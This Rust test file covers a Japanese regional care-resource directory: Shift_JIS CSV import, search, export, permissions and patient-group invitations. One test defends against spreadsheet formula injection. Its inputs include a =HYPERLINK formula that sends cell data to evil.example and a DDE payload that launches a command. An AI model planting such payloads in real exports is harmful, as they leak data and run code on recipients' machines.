//! The regional resource directory over HTTP on both databases (Ayamu; R12.1, R12.2): a CSV file
//! written by Excel in Japan (Shift_JIS) with a few bad rows goes through the dry run, which names
//! exactly those rows, then only the valid rows are imported; search by words, kind, area, day and
//! vacancy; export and import again; entries kept current by the center and each facility; and
//! from an entry's staff to a patient's group invitation (R5.2).

use crate::helpers::*;
use crate::patients::{create_group, record_consent, register_patient, team, PNG};

pub const HEADER: &str = "種別,名称,ふりがな,住所,地区,電話,営業日,営業時間,サービス,定員,空き,備考,最終確認日";
const AREAS: [&str; 5] = ["北部", "南部", "東部", "西部", "中央"];
const KINDS: [&str; 4] = ["通所介護(デイサービス)", "通いの場・サロン", "診療所", "訪問看護ステーション"];

/// Row `i` of the generated directory: what it holds, so a test can count what a search finds.
pub struct Row {
    pub kind: usize,
    pub area: usize,
    pub wednesday: bool,
    pub bathing: bool,
    pub vacancies: u32,
}

pub fn row(i: usize) -> Row {
    Row {
        kind: i % 4,
        area: i % 5,
        wednesday: i.is_multiple_of(3),
        bathing: i.is_multiple_of(2),
        vacancies: (i % 4) as u32,
    }
}

/// `n` good rows, and three bad ones after the rows 10, 50 and 120: (CSV text, bad lines).
pub fn directory_csv(n: usize) -> (String, Vec<u64>) {
    let mut lines = vec![HEADER.to_string()];
    let mut bad = Vec::new();
    for i in 0..n {
        let r = row(i);
        let days = if r.wednesday { "月水金" } else { "火木" };
        let services = if r.bathing { "入浴、送迎" } else { "食事、機能訓練" };
        lines.push(format!(
            "{},ひまわり{i}番館,ひまわり{i}ばんかん,熊谷市本町{i}-1,{},048-500-{:04},{days},9:00～17:00,\"{services}\",20,{},\"備考{i}\",2026-10-01",
            KINDS[r.kind], AREAS[r.area], i, r.vacancies
        ));
        let bad_row = match i {
            10 => Some("喫茶店,喫茶あおぞら,,,北部,,,,,,,,"),
            50 => Some("診療所,みどり医院,,,北部,,月～金,,,10,12,,"),
            120 => Some("診療所,,,,南部,,,,,,,,2026-13-01"),
            _ => None,
        };
        if let Some(b) = bad_row {
            lines.push(b.to_string());
            bad.push(lines.len() as u64);
        }
    }
    (lines.join("\r\n") + "\r\n", bad)
}

pub fn shift_jis(text: &str) -> Vec<u8> {
    let (bytes, _, unmappable) = encoding_rs::SHIFT_JIS.encode(text);
    assert!(!unmappable, "the fixture is plain JIS (as Windows writes it: ～, not 〜)");
    bytes.into_owned()
}

async fn import(c: &Client, fields: &[(&str, &str)], file: Option<&[u8]>) -> Resp {
    c.post_multipart("/center/resources/import", fields, file.map(|b| ("file", "地域資源.csv", "text/csv", b))).await
}

fn total(r: &Resp) -> i64 {
    r.json()["total"].as_i64().unwrap()
}

both!(r12_1_r12_2_a_shift_jis_csv_is_checked_then_imported_and_searched, |srv: Srv| async move {
    let w = world(&srv).await;
    let (text, bad) = directory_csv(210);
    let sjis = shift_jis(&text);
    assert!(std::str::from_utf8(&sjis).is_err(), "the file is really Shift_JIS");
    // The dry run: every row checked, exactly the bad ones named with line, column and reason.
    let r = import(&w.center, &[("mode", "dry_run")], Some(&sjis)).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("Shift_JIS"));
    assert_eq!(r.by_id("created").as_deref(), Some("210"));
    assert_eq!(r.by_id("refused").as_deref(), Some("3"));
    for line in &bad {
        assert!(r.body.contains(&format!("data-line=\"{line}\"")), "line {line} is named: {}", r.body);
    }
    assert_eq!(r.body.matches("data-line=").count(), 3, "only the bad rows are named");
    assert!(r.body.contains("「種別」: 種別は次のいずれかにしてください"));
    assert!(r.body.contains("「空き」: 空きは定員以下で入力してください。"));
    assert!(r.body.contains("「名称」: 名称を入力してください。"));
    assert!(r.body.contains("「最終確認日」: 最終確認日は 2026-11-24 の形で入力してください。"));
    assert_eq!(total(&w.nurse.get("/api/v1/resources").await), 0, "a dry run writes nothing");
    assert!(audit_rows(&srv, "resource.imported").await.is_empty());
    // "All" with bad rows writes nothing either; "valid only" writes the 210.
    let r = import(&w.center, &[("mode", "all"), ("content", &text)], None).await;
    assert!(r.body.contains("何も書き込んでいません"), "{}", r.body);
    assert_eq!(total(&w.nurse.get("/api/v1/resources").await), 0);
    let r = import(&w.center, &[("mode", "valid_only"), ("content", &text)], None).await;
    assert_eq!(r.by_id("written").as_deref(), Some("210"), "{}", r.body);
    assert_eq!(total(&w.nurse.get("/api/v1/resources").await), 210);
    let audit = audit_rows(&srv, "resource.imported").await.pop().unwrap();
    assert!(audit.record.details.contains("\"written\":210"), "{}", audit.record.details);
    // Only the center imports.
    assert_eq!(import(&w.admin_a, &[("mode", "dry_run")], Some(&sjis)).await.status, 403);

    // R12.1: 入浴 on Wednesdays in the north: words, a day and an area (also typed as words).
    let expected = (0..210).filter(|i| row(*i).bathing && row(*i).wednesday && row(*i).area == 0).count() as i64;
    assert!(expected > 0);
    let r = w.nurse.get("/api/v1/resources?q=%E5%85%A5%E6%B5%B4&day=2&area=north").await;
    assert_eq!(total(&r), expected, "{}", r.body);
    let typed = w.nurse.get(&format!("/api/v1/resources?q={}", urlencode("入浴 水曜 北部"))).await;
    assert_eq!(total(&typed), expected, "水曜 and 北部 typed as words are the day and the area");
    for e in r.json()["results"].as_array().unwrap() {
        assert!(e["services"].as_array().unwrap().contains(&serde_json::json!("入浴")));
        assert!(e["days"].as_str().unwrap().contains('水'));
        assert_eq!(e["area"]["label"], "北部");
    }
    // Vacancy and kind; one-character words; katakana finds hiragana.
    let with_vacancy = (0..210).filter(|i| row(*i).kind == 1 && row(*i).vacancies > 0).count() as i64;
    assert_eq!(total(&w.nurse.get("/api/v1/resources?kind=salon&vacancy=1").await), with_vacancy);
    assert_eq!(total(&w.nurse.get(&format!("/api/v1/resources?q={}", urlencode("ヒマワリ199"))).await), 1);
    assert_eq!(total(&w.nurse.get(&format!("/api/v1/resources?q={}", urlencode("浴"))).await), 105);
    // Relevance puts a name match first; pages of 20.
    let r = w.nurse.get(&format!("/api/v1/resources?q={}", urlencode("ひまわり7番館"))).await;
    assert_eq!(r.json()["results"][0]["name"], "ひまわり7番館");
    // The searched words are marked in the results.
    let r = w.nurse.get(&format!("/resources?q={}", urlencode("入浴"))).await;
    assert!(r.body.contains("<mark>入浴</mark>"), "{}", r.body);
    let r = w.nurse.get("/resources?sort=name&page=2").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body.matches("class=\"resource\"").count(), 20);
    assert!(r.body.contains("(2 / 11ページ)"), "{}", r.body);

    // Export a search and import it again: every row is an update, nothing new.
    let r = w.nurse.send("GET", &format!("/resources.csv?q={}&area=north", urlencode("入浴")), None, &[]).await;
    assert_eq!(r.status, 200);
    assert!(r.headers["content-type"].to_str().unwrap().starts_with("text/csv"));
    let csv = r.body.trim_start_matches('\u{feff}').to_string();
    let north_bathing = (0..210).filter(|i| row(*i).bathing && row(*i).area == 0).count();
    assert_eq!(csv.lines().count(), north_bathing + 1, "{csv}");
    assert!(csv.starts_with("ID,種別,名称"));
    let r = import(&w.center, &[("mode", "dry_run")], Some(csv.as_bytes())).await;
    assert_eq!(r.by_id("updated").as_deref(), Some(north_bathing.to_string().as_str()), "{}", r.body);
    assert_eq!(r.by_id("created").as_deref(), Some("0"));
    assert_eq!(r.by_id("refused").as_deref(), Some("0"));
    // A file that is neither: a clear refusal, nothing written.
    let r = import(&w.center, &[("mode", "dry_run")], Some(b"\xff\xfe\x00\x01garbage")).await;
    assert_eq!(r.status, 422);
    assert!(r.body.contains("文字コードを判別できませんでした"));
});

/// The cells of a CSV export (after the BOM), by row.
fn csv_cells(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// What a spreadsheet takes for a formula when it comes first in a cell.
fn formula_like(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

// R12.2, R11.1 (CWE-1236, ASVS 5.0 1.2.10): what a spreadsheet would run is made text — a leading
// apostrophe — in the directory's export and in the audit log's, through the one CSV writer; the
// directory's export imports back as it was. (Tabs and line breaks at the start of a field are
// trimmed on input; the writer's own test covers them.)
both!(r12_2_r11_1_exports_make_formulas_text, |srv: Srv| async move {
    let w = world(&srv).await;
    let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"詳細\")";
    let form = [
        ("kind", "診療所"),
        ("name", hyperlink),
        ("address", "+熊谷市本町1-1"),
        ("hours", "-9:00"),
        ("notes", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("days", "平日"),
    ];
    let r = w.admin_a.post_form("/resources", &form).await;
    assert_eq!(r.status, 303, "{}", r.body);
    let id = r.location().trim_start_matches("/resources/").to_string();
    let r = w.nurse.get("/resources.csv").await;
    assert_eq!(r.status, 200);
    let rows = csv_cells(&r.body);
    let row = rows.iter().find(|row| row[0] == id).expect("the entry is exported");
    for (field, value) in &form[1..5] {
        assert!(row.contains(&format!("'{value}")), "{field} not made text: {row:?}");
    }
    assert!(rows.iter().flatten().all(|c| !formula_like(c)), "{rows:?}");
    // Imported again, the entry is as it was: the apostrophes come off.
    let r = w
        .center
        .post_multipart(
            "/center/resources/import",
            &[("mode", "all")],
            Some(("file", "export.csv", "text/csv", r.body.as_bytes())),
        )
        .await;
    assert_eq!(r.by_id("updated").as_deref(), Some("1"), "{}", r.body);
    let e = srv.store.directory_entry(&id).await.unwrap().unwrap();
    assert_eq!(e.f.name, hyperlink);
    assert_eq!(e.f.notes, "@SUM(1+1)*cmd|' /C calc'!A0");

    // The audit log's export: a suspension's reason is typed by an admin.
    let r = w.admin_a.post_form(&format!("/users/{}/suspend", w.nurse_id), &[("reason", hyperlink)]).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let r = w.center.get("/center/audit.csv?action=user.suspended").await;
    assert_eq!(r.status, 200);
    let rows = csv_cells(&r.body);
    assert_eq!(rows[0][10], "reason");
    assert_eq!(rows[1][10], format!("'{hyperlink}"));
    assert!(rows.iter().flatten().all(|c| !formula_like(c)), "{rows:?}");
});

fn urlencode(s: &str) -> String {
    serde_urlencoded::to_string([("", s)]).unwrap().trim_start_matches('=').to_string()
}

both!(r12_2_entries_are_kept_current_by_the_center_and_each_facility, |srv: Srv| async move {
    let w = world(&srv).await;
    let fac_b = srv.store.user_by_login("admin.b").await.unwrap().unwrap().facility_id.unwrap();
    // A facility admin registers the facility's own entry, whatever facility the form names.
    let form = [
        ("kind", "診療所"),
        ("name", "ひまわりクリニック"),
        ("phone", "048-000-1111"),
        ("days", "平日"),
        ("facility_id", fac_b.as_str()),
        ("confirmed_on", "2024-01-15"),
    ];
    let r = w.admin_a.post_form("/resources", &form).await;
    assert_eq!(r.status, 303, "{}", r.body);
    let id = r.location().trim_start_matches("/resources/").to_string();
    let e = srv.store.directory_entry(&id).await.unwrap().unwrap();
    assert_eq!(e.f.facility_id.as_deref(), Some(w.fac_a.as_str()));
    // Their home page leads to the facility's own entries.
    let home = w.admin_a.get("/").await;
    assert!(home.body.contains(&format!("/resources?facility={}", w.fac_a)), "{}", home.body);
    assert_eq!(total(&w.nurse.get(&format!("/api/v1/resources?facility={}", w.fac_a)).await), 1);
    assert_eq!(total(&w.nurse.get(&format!("/api/v1/resources?facility={fac_b}")).await), 0);
    assert_eq!(e.f.days, 0b001_1111);
    // Bad input: Japanese messages next to the fields, what was typed kept, nothing changed.
    let r = w
        .admin_a
        .post_form(
            &format!("/resources/{id}"),
            &[("kind", "診療所"), ("name", "ひまわりクリニック"), ("phone", "電話してね")],
        )
        .await;
    assert_eq!(r.status, 422);
    assert!(r.body.contains("電話は数字とハイフンで入力してください"), "{}", r.body);
    assert!(r.body.contains("電話してね"));
    // Another facility's admin may not; staff may read; the center may do anything.
    assert_eq!(w.admin_b.get(&format!("/resources/{id}/edit")).await.status, 403);
    assert_eq!(w.nurse.post_form(&format!("/resources/{id}/confirm"), &[]).await.status, 403);
    assert!(w.nurse.get(&format!("/resources/{id}")).await.body.contains("ひまわりクリニック"));
    let r = w
        .center
        .post_form(
            &format!("/resources/{id}"),
            &[("kind", "診療所"), ("name", "ひまわりクリニック本院"), ("days", "月～土"), ("facility_id", &w.fac_a)],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    // R12.2: not confirmed for a year → on the center's list, until someone confirms it.
    let r = w.center.get("/center/resources/stale").await;
    assert!(r.body.contains(&format!("data-resource=\"{id}\"")), "{}", r.body);
    assert_eq!(w.admin_a.get("/center/resources/stale").await.status, 403);
    assert_eq!(w.admin_a.post_form(&format!("/resources/{id}/confirm"), &[]).await.status, 303);
    let e = srv.store.directory_entry(&id).await.unwrap().unwrap();
    assert_eq!(e.f.confirmed_on.as_deref(), Some(kumanet_web::jst::iso_date_jst(T0).as_str()));
    assert!(!w.center.get("/center/resources/stale").await.body.contains(&format!("data-resource=\"{id}\"")));
    for action in ["resource.created", "resource.updated", "resource.confirmed"] {
        assert!(!audit_rows(&srv, action).await.is_empty(), "{action}");
    }
    // The center renames an area and adds one; entries keep their codes.
    let kinds = srv.store.directory_terms("kind").await.unwrap();
    let r = w.nurse.get("/api/v1/resources/terms").await;
    assert_eq!(r.json()["kinds"][11]["label"], "通いの場・サロン");
    assert_eq!(kinds.len(), kumanet_core::policy::directory::DEFAULT_KINDS.len(), "the taxonomy of the issue");
    let r = w
        .center
        .post_form(
            "/center/resources/terms",
            &[("vocabulary", "area"), ("labels", "熊谷地区\n南部\n東部\n西部\n中央\n大里地区")],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    let areas = srv.store.directory_terms("area").await.unwrap();
    assert_eq!((areas[0].code.as_str(), areas[0].label.as_str(), areas.len()), ("north", "熊谷地区", 6));
    let r = w.center.post_form("/center/resources/terms", &[("vocabulary", "area"), ("labels", "熊谷地区")]).await;
    assert_eq!(r.status, 422, "areas in use are not removed");
    // Issue 18: a missing choice is a field error like any other (422 with the form), not 400.
    let r = w.center.post_form("/center/resources/terms", &[("vocabulary", "menu"), ("labels", "a")]).await;
    assert_eq!((r.status, r.by_id("e-vocabulary").as_deref()), (422, Some("種別か地区を選んでください。")));
});

both!(r12_1_r5_2_from_an_entry_to_a_patient_group_invitation, |srv: Srv| async move {
    let t = team(&srv).await;
    let patient = register_patient(&t.doctor, "熊谷 一郎", "くまがや いちろう").await;
    assert_eq!(record_consent(&t.doctor, &patient, Some(PNG)).await.status, 303);
    let group = create_group(&t.doctor, &patient).await;
    let pharmacy = srv.store.user_by_id(&t.pharmacist_id).await.unwrap().unwrap().facility_id.unwrap();
    let r = t
        .w
        .center
        .post_form(
            "/resources",
            &[("kind", "薬局"), ("name", "あおば薬局"), ("services", "在宅訪問、無菌調剤"), ("facility_id", &pharmacy)],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    let id = r.location().trim_start_matches("/resources/").to_string();
    // The doctor sees the pharmacy's staff on Kumanet, and the groups he can invite them to.
    let r = t.doctor.get(&format!("/resources/{id}")).await;
    assert!(r.body.contains(&format!("data-user=\"{}\"", t.pharmacist_id)), "{}", r.body);
    assert!(r.body.contains("熊谷 一郎さんのグループ"));
    // A member of no group managed by her sees the staff but no invitation form.
    assert!(!t.pharmacist.get(&format!("/resources/{id}")).await.body.contains("患者グループに招待する"));
    let r = t.doctor.get(&format!("/resources/invite?group={group}&invitee={}", t.pharmacist_id)).await;
    assert_eq!(r.status, 303);
    let r = t.doctor.get(r.location()).await;
    assert_eq!(r.body.matches("class=\"card invite\"").count(), 1, "only the chosen person is offered");
    assert!(r.body.contains("data-login=\"ph.p\""));
    let r = t
        .doctor
        .post_form(
            &format!("/groups/{group}/invitations"),
            &[("invitee_id", &t.pharmacist_id), ("reason", "訪問薬剤管理")],
        )
        .await;
    assert_eq!(r.status, 303);
    let invitations = srv.store.pending_invitations_for(&t.pharmacist_id).await.unwrap();
    assert_eq!(invitations.len(), 1);
    assert_eq!(invitations[0].group_id, group);
});
